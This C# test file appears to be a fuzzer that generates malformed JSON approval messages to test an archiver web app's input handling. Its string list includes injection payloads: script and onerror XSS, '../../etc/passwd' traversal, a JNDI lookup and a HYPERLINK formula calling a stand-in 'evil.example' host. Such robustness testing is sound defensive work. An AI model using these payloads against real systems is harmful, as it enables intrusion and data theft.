using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Archiver.Web.Tests.Approvals.Intake;

/// <summary>Makes messages for the human queue: good ones with a member or two that are not as they should be, and some that are no JSON at all.</summary>
internal sealed class MessageFuzz(int seed)
{
    private static readonly string[] Texts =
    [
        "", " ", "ledger.pdf", "<script>document.title='run'</script>", "\"><img src=x onerror=document.title='run'>", "javascript:document.title='run'",
        "../../etc/passwd", "..\\..\\windows", "=HYPERLINK(\"http://evil.example\")", "@SUM(1)", "{{7*7}}", "${jndi:ldap://evil.example}", "%00", "\0", "\u202egnp.exe",
        "\u0085\u2028\u2029", "🗎🗎🗎", "a\u0301\u0301\u0301\u0301\u0301", "0", "-1", "NaN", "1e999", "true", "null", "2026-03-01T14:02:11.000Z", "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.9999999Z", "2026-02-30T00:00:00Z", "arn:aws:states:us-east-1:000000000000:execution:x:y", "arn:", ":::::::", "http://evil.example/",
    ];

    private static readonly string[] Numbers =
        ["0", "-1", "1", "101", "-0.0", "0.1", "1e308", "-1e308", "1e400", "9223372036854775807", "9223372036854775808", "1.7976931348623157E+308", "12345678901234567890123456789012345678901234567890"];

    private static readonly string[] Members =
    [
        "ExecutionArn", "RequestedAt", "ExpiresAt", "Recommendation", "File", "File.Id", "File.Name", "File.Bucket", "File.Key", "File.VersionId", "File.Size", "File.ContentType", "File.Sha256",
        "File.Archive", "File.Quality", "File.QualityThreshold", "File.Checks", "File.Checks.0", "File.Checks.0.Name", "File.Checks.0.Passed", "File.Checks.0.Detail", "Note", "", "$", "__proto__",
    ];

    private readonly Random _random = new(seed);

    /// <summary>The next message.</summary>
    public string Next()
    {
        string message = Good();
        for (int change = _random.Next(4); change > 0; change--) message = Change(message);
        return _random.Next(12) == 0 ? Break(message) : message;
    }

    private string Good() => $$"""
        { "TaskToken": "fuzz-{{_random.NextInt64().ToString(CultureInfo.InvariantCulture)}}", "ExecutionArn": "arn:aws:states:us-east-1:000000000000:execution:archiver-ArchiverStateMachine:run-1",
          "RequestedAt": "2026-03-01T14:00:00.000Z", "ExpiresAt": "2026-03-08T14:00:00.000Z", "Recommendation": "Quality_Fail",
          "File": { "Id": "f", "Name": "ledger.pdf", "Bucket": "b", "Key": "k", "VersionId": "v", "Size": 123, "ContentType": "application/pdf", "Sha256": "00", "Archive": true,
            "Quality": 35, "QualityThreshold": 50, "Checks": [ { "Name": "NotEmpty", "Passed": false, "Detail": "It is empty." } ] } }
        """;

    private string Change(string message)
    {
        JsonNode? root = Parse(message);
        if (root is not JsonObject top) return message;
        string[] path = Members[_random.Next(Members.Length)].Split('.');
        JsonNode? parent = top;
        foreach (string step in path[..^1]) parent = parent is JsonArray items ? items.ElementAtOrDefault(0) : (parent as JsonObject)?[step];
        switch (parent)
        {
            case JsonObject members:
                if (_random.Next(6) == 0) members.Remove(path[^1]);
                else members[path[^1]] = Value(3);
                break;
            case JsonArray items:
                items.Add(Value(2));
                break;
        }
        return top.ToJsonString(new JsonSerializerOptions { MaxDepth = 500 });
    }

    private JsonNode? Value(int depth) => _random.Next(depth > 0 ? 8 : 5) switch
    {
        0 => null,
        1 => JsonValue.Create(_random.Next(2) == 0),
        2 => Parse(Numbers[_random.Next(Numbers.Length)]),
        3 or 4 => JsonValue.Create(Text()),
        5 => new JsonArray([.. Enumerable.Range(0, _random.Next(4)).Select(_ => Value(depth - 1))]),
        6 => new JsonObject(Enumerable.Range(0, _random.Next(4)).Select(index => KeyValuePair.Create(Text() + index, Value(depth - 1)))),
        _ => Deep(_random.Next(100)),
    };

    private string Text() => _random.Next(8) switch
    {
        0 => new string('x', _random.Next(20_000)),
        1 => string.Concat(Enumerable.Range(0, _random.Next(20)).Select(_ => char.ConvertFromUtf32(_random.Next(0xD800)))),
        _ => Texts[_random.Next(Texts.Length)],
    };

    private static JsonNode? Deep(int levels)
    {
        JsonNode? node = "deep";
        for (int level = 0; level < levels; level++) node = new JsonArray(node);
        return node;
    }

    // No JSON any more, or only almost.
    private string Break(string message) => _random.Next(6) switch
    {
        0 => message[.._random.Next(message.Length)],
        1 => message.Replace("ledger.pdf", "\\ud800", StringComparison.Ordinal),
        2 => message.Replace("{ \"TaskToken\"", "{ \"TaskToken\": 1, \"TaskToken\"", StringComparison.Ordinal),
        3 => new StringBuilder(message) { [_random.Next(message.Length)] = (char)_random.Next(32, 126) }.ToString(),
        4 => Texts[_random.Next(Texts.Length)],
        _ => "[" + message + "]",
    };

    private static JsonNode? Parse(string text)
    {
        try
        {
            return JsonNode.Parse(text, documentOptions: new JsonDocumentOptions { MaxDepth = 500 });
        }
        catch (JsonException)
        {
            return null;
        }
    }
}
